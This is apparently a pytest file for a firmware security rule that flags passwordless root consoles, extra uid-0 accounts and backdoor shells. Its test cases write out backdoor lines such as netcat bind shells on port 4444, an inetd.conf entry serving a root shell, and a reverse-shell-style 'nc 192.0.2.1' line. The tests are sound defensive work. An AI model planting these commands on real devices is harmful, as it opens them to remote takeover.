"""Doors that ask for nothing, and accounts that nobody looks for, from the files of a tree to what the rule says."""

from __future__ import annotations

import pytest

from plimsoll.judge.rules.passwords import FIXED_ACCOUNT
from tests.judge.building import effects, found, passwd, start
from tests.judge.looking import ELF, effects_of

SYSTEM = {
    "bin/busybox": ELF,
    **dict.fromkeys(("bin/sh", "sbin/getty", "bin/login", "bin/nc", "usr/sbin/inetd", "usr/sbin/telnetd"), ELF),
    "etc/passwd": "root:*:0:0::/root:/bin/sh\n",
}


@pytest.mark.parametrize(("line", "expected"), [
    ("ttyS0::respawn:-/bin/sh", ["suspects"]),
    ("::askfirst:/bin/sh", ["suspects"]),
    ("ttyS0::respawn:/sbin/getty -n -l /bin/sh 115200 ttyS0", ["suspects"]),
    ("ttyS0::respawn:/sbin/getty -a root 115200 ttyS0", ["suspects"]),
    ("ttyS0::respawn:/bin/login -f root", ["suspects"]),
    ("::sysinit:setsid cttyhack sh", ["suspects"]),
    ("ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100", []),
    ("ttyS0::respawn:/bin/login", []),
    ("#ttyS0::respawn:-/bin/sh", []),
    ("::ctrlaltdel:/bin/sh", []),
])  # fmt: skip
def test_a_console_that_asks_for_nothing_is_doubted(line: str, expected: list[str]) -> None:
    files = {**SYSTEM, "etc/inittab": f"::sysinit:/etc/init.d/rcS\n{line}\n", "etc/init.d/rcS": "#!/bin/sh\nsyslogd\n"}
    assert effects_of(FIXED_ACCOUNT, files) == expected


@pytest.mark.parametrize(("line", "expected"), [
    ("nc -l -p 4444 -e /bin/sh &", ["refutes"]),
    ("nc -lp 4444 -e /bin/sh", ["refutes"]),
    ("[ -f /mnt/card/debug ] && nc -lp 4444 -e /bin/sh", ["suspects"]),
    ("inetd", ["refutes"]),
    ("nc 192.0.2.1 4444 -e /bin/sh", []),
    ("nc -l -p 4444 -e /usr/bin/answer", []),
    ("nc -l -p 4444 > /tmp/in", []),
    ("# nc -l -p 4444 -e /bin/sh", []),
    ("echo nc -l -p 4444 -e /bin/sh", []),
    ("/bin/sh", []),
])  # fmt: skip
def test_a_shell_that_is_given_to_whoever_connects_decides(line: str, expected: list[str]) -> None:
    files = {
        **SYSTEM,
        "etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "etc/init.d/rcS": f"#!/bin/sh\n{line}\n",
        "etc/inetd.conf": "4444 stream tcp nowait root /bin/sh sh -i\n",
    }
    assert effects_of(FIXED_ACCOUNT, files) == expected


def test_a_second_super_user_is_named_as_one() -> None:
    both = passwd(password="locked"), passwd("support", uid=0, line=5)
    assert effects(FIXED_ACCOUNT, *both, start("telnetd")) == ("refutes",)
    assert "a second account with the number 0" in str(found(FIXED_ACCOUNT, *both, start("telnetd")).bearings[0].why)
    only = passwd("admin", uid=0)
    assert "second" not in str(found(FIXED_ACCOUNT, only, start("telnetd")).bearings[0].why)


@pytest.mark.parametrize(("name", "uid", "expected"), [
    ("support", 0, ("suspects",)),
    ("daemon", 1, ("suspects",)),
    ("nobody", 99, ("suspects",)),
    ("user", 1000, ()),
    ("root", 0, ()),
])  # fmt: skip
def test_an_account_that_nobody_looks_for_is_doubted_without_a_service(
    name: str, uid: int, expected: tuple[str, ...]
) -> None:
    accounts = [passwd(password="locked")] if name != "root" else []
    assert effects(FIXED_ACCOUNT, *accounts, passwd(name, uid=uid, line=5), start("syslogd")) == expected
    locked = passwd(name, "locked", uid=uid, line=5)
    assert effects(FIXED_ACCOUNT, *accounts, locked, start("syslogd")) == ()
